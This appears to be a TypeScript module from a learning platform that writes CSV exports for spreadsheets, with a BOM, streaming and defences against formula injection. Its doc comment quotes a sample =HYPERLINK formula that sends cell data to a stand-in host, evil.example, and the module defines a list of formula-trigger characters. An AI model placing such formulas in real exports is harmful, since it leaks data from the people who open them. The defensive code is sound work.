import { stringify } from "csv-stringify/sync";

/**
 * CSV for spreadsheets, RFC 4180: CRLF between records, a field is quoted when it holds a comma, a
 * double quote, CR or LF, and a quote inside a field is doubled. csv-stringify does the quoting; this
 * module adds the two things spreadsheets need on top:
 *
 * - Formula-injection neutralisation (OWASP "CSV Injection",
 *   https://owasp.org/www-community/attacks/CSV_Injection): Excel, LibreOffice and Google Sheets run a
 *   cell that starts with `=`, `+`, `-`, `@`, tab or carriage return as a formula, so a learner who
 *   types `=HYPERLINK("http://evil.example?"&A1)` could run it on the instructor's machine. Every *text*
 *   cell that starts with one of those (or their full-width forms, which Apple Numbers folds to the
 *   ASCII ones) gets a leading single quote `'`, which spreadsheets show as text. Numbers we compute
 *   (scores, counts) are passed as numbers and never prefixed, so `-3` stays a number.
 * - A UTF-8 byte order mark at the start of the file: without it Excel reads CSV as the local code
 *   page and shows "Zoë" as "ZoÃ«"; other spreadsheets and parsers skip it.
 */
export type CsvCell = string | number | null;

const FORMULA_TRIGGERS = new Set(["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]);

export const CSV_BOM = "\uFEFF";

/** A text cell as a spreadsheet should see it: starting with a formula trigger, it is prefixed with `'`. */
export function neutraliseFormula(text: string): string {
  return FORMULA_TRIGGERS.has(text.charAt(0)) ? `'${text}` : text;
}

function toField(cell: CsvCell): string | null {
  if (cell === null) return null;
  if (typeof cell === "number") return Number.isFinite(cell) ? String(cell) : null;
  return neutraliseFormula(cell);
}

/** Records as CSV text, each ending with CRLF (no BOM: that belongs to the start of a file only). */
export function csvRecords(rows: readonly (readonly CsvCell[])[]): string {
  if (rows.length === 0) return "";
  return stringify(
    rows.map((row) => row.map(toField)),
    // quote_record_delimiter: a lone LF or CR inside a field is quoted too, not only a full CRLF.
    { record_delimiter: "\r\n", quote_record_delimiter: true, quoted_empty: false },
  );
}

/** A whole CSV file in memory (BOM, header, rows): for small files and tests; routes stream with csvStream. */
export function csvDocument(header: readonly string[], rows: readonly (readonly CsvCell[])[]): string {
  return CSV_BOM + csvRecords([header, ...rows]);
}

/**
 * A CSV file as a byte stream: BOM and header first, then one chunk per batch of rows. Batches are
 * pulled only when the reader wants more, so a slow download does not make the server load the whole
 * cohort into memory; cancelling the download stops the batches (their generator's `finally` runs).
 */
export function csvStream(
  header: readonly string[],
  batches: AsyncIterable<readonly (readonly CsvCell[])[]>,
): ReadableStream<Uint8Array> {
  const encoder = new TextEncoder();
  const iterator = batches[Symbol.asyncIterator]();
  return new ReadableStream<Uint8Array>({
    start(controller) {
      controller.enqueue(encoder.encode(CSV_BOM + csvRecords([header])));
    },
    async pull(controller) {
      // Skip empty batches: a pull that enqueues nothing is not called again, and the reader would hang.
      for (;;) {
        const next = await iterator.next();
        if (next.done) {
          controller.close();
          return;
        }
        if (next.value.length > 0) {
          controller.enqueue(encoder.encode(csvRecords(next.value)));
          return;
        }
      }
    },
    async cancel() {
      await iterator.return?.();
    },
  });
}
